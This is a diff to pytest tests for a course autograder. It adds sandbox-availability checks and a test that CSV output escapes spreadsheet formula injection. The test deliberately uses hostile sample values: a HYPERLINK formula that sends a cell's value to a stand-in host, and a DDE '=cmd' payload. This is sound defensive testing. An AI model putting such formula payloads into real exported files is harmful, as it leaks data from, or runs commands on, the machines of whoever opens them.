@@ -10,7 +10,7 @@ import os
 import shutil
 
 import pytest
-from conftest import ROOT, WRONG, assert_clean, run_course
+from conftest import ROOT, WRONG, assert_clean, requires_sandbox, run_course
 
 from course_lib import cli, tasks
 from course_lib.grader import roster
@@ -29,14 +29,18 @@ class FakeGrader:
         self.verdicts = verdicts or {}
         self.calls: list[dict] = []
 
-    def __call__(self, jobs, seed=None, workers=None, timeout=None, on_result=None, hidden=None):
-        self.calls.append({"jobs": list(jobs), "seed": seed, "workers": workers, "timeout": timeout, "hidden": hidden})
+    def __call__(self, jobs, seed=None, workers=None, timeout=None, on_result=None, hidden=None, sandboxed=None):
+        self.calls.append(
+            {"jobs": list(jobs), "seed": seed, "workers": workers, "timeout": timeout, "hidden": hidden,
+             "sandboxed": sandboxed}
+        )  # fmt: skip
         results = []
         for job in jobs:
             assert (job.source / f"{job.task}.py").is_file()
             status, summary, details = self.verdicts.get((job.learner, job.task), ("pass", "all cases passed", []))
             passed = 10 if status == "pass" else 3
             result = TaskResult(job.task, status, summary, list(details), str(job.source), seed, passed, 10, 0.25)
+            result.sandboxed = bool(sandboxed)
             if on_result is not None:
                 on_result(job, result)
             results.append(result)
@@ -45,6 +49,12 @@ class FakeGrader:
     @property
     def graded(self) -> list[tuple[str, str]]:
         return [(j.learner, j.task) for call in self.calls for j in call["jobs"]]
+
+
+@pytest.fixture(autouse=True)
+def a_sandbox(monkeypatch):
+    """The fake grader runs nothing: grade as if this machine had a sandbox (tests of its absence say so)."""
+    monkeypatch.setattr(roster.sandbox, "available", lambda: roster.sandbox.Availability(True, "bubblewrap (test)", ""))
 
 
 def make_room(path, learners: dict[str, dict[str, bytes]]):
@@ -449,6 +459,7 @@ def test_one_worker_per_gpu_unless_jobs_is_given(tmp_path, monkeypatch):
 # end to end, through the real command line and the real grader
 
 
+@requires_sandbox
 def test_grade_a_room_end_to_end(tmp_path, progress_file):
     room = tmp_path / "room"
     for learner in ("honest", "stubs", "mixed"):
@@ -484,3 +495,64 @@ def test_grade_a_room_end_to_end(tmp_path, progress_file):
     assert "| vector_add | 1/3 |" in (tmp_path / "grades.summary.md").read_text()
     assert "honest: 2/2 tasks pass" in run.stdout and f"wrote 6 rows to {out}" in run.stdout
     assert os.path.getsize(out) > 0
+
+
+# --------------------------------------------------------------------------------------------------
+# the sandbox, and cells a spreadsheet would run
+
+
+def no_sandbox(monkeypatch):
+    monkeypatch.setattr(
+        roster.sandbox, "available", lambda: roster.sandbox.Availability(False, "", "bubblewrap is not installed")
+    )
+
+
+def test_a_room_is_not_graded_without_a_sandbox_unless_the_instructor_says_so(tmp_path, monkeypatch, capsys):
+    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION)})
+    no_sandbox(monkeypatch)
+    fake = FakeGrader()
+    with pytest.raises(roster.UsageError, match="bubblewrap is not installed.*--unsandboxed"):
+        grade(room, tmp_path / "g.csv", fake)
+    assert fake.calls == [] and not (tmp_path / "g.csv").exists()
+    monkeypatch.setattr(roster, "grade_jobs", fake)
+    assert cli.main(["grade", str(room), "--out", str(tmp_path / "g.csv")]) == 2
+    assert "cannot grade a room safely here" in capsys.readouterr().err
+    result = grade(room, tmp_path / "g.csv", fake, unsandboxed=True)
+    assert fake.calls[-1]["sandboxed"] is False
+    assert {r["sandboxed"] for r in read_csv(tmp_path / "g.csv")} == {"no"}
+    summary = (tmp_path / "g.summary.md").read_text()
+    assert "WITHOUT the sandbox" in summary and any("WITHOUT" in n for n in result.notes)
+
+
+def test_rows_say_they_were_graded_in_the_sandbox(tmp_path):
+    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION), "bob": {}})
+    fake = FakeGrader()
+    grade(room, tmp_path / "g.csv", fake)
+    assert fake.calls[0]["sandboxed"] is True
+    rows = {(r["student_id"], r["assignment"]): r for r in read_csv(tmp_path / "g.csv")}
+    assert rows["alice", "vector_add"]["sandboxed"] == "yes"
+    assert rows["bob", "vector_add"]["sandboxed"] == ""  # a missing file runs nowhere
+    assert "graded in the sandbox: bubblewrap (test)" in (tmp_path / "g.summary.md").read_text()
+
+
+def test_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path):
+    evil = '=HYPERLINK("x.example?"&A1,"grades")'
+    room = make_room(tmp_path / "room", {evil: dict(SOLUTION), "+1": dict(SOLUTION), "@me": {}, "-x": {}})
+    fake = FakeGrader({(evil, "vector_add"): ("fail", "=cmd|' /C calc'!A0", [])})
+    grade(room, tmp_path / "g.csv", fake)
+    text = (tmp_path / "g.csv").read_text()
+    for line in text.splitlines()[1:]:
+        for cell in next(csv.reader([line])):
+            assert not cell.startswith(roster.FORMULA_STARTS), line
+    rows = read_csv(tmp_path / "g.csv")
+    assert {r["student_id"] for r in rows} == {f"'{evil}", "'+1", "'@me", "'-x"}
+    assert any(r["message"].startswith("'=cmd|") for r in rows)
+    summary = (tmp_path / "g.summary.md").read_text()
+    for line in summary.splitlines():
+        for cell in line.split("|")[1:-1]:
+            assert cell.strip() in ("---", "-") or not cell.strip().startswith(roster.FORMULA_STARTS), line
+    # the JSON keeps the names as they are, and --resume reads the CSV back to the same names
+    assert {r["student_id"] for r in json.loads((tmp_path / "g.json").read_text())} == {evil, "+1", "@me", "-x"}
+    again = FakeGrader()
+    grade(room, tmp_path / "g.csv", again, resume=True)
+    assert again.graded == []
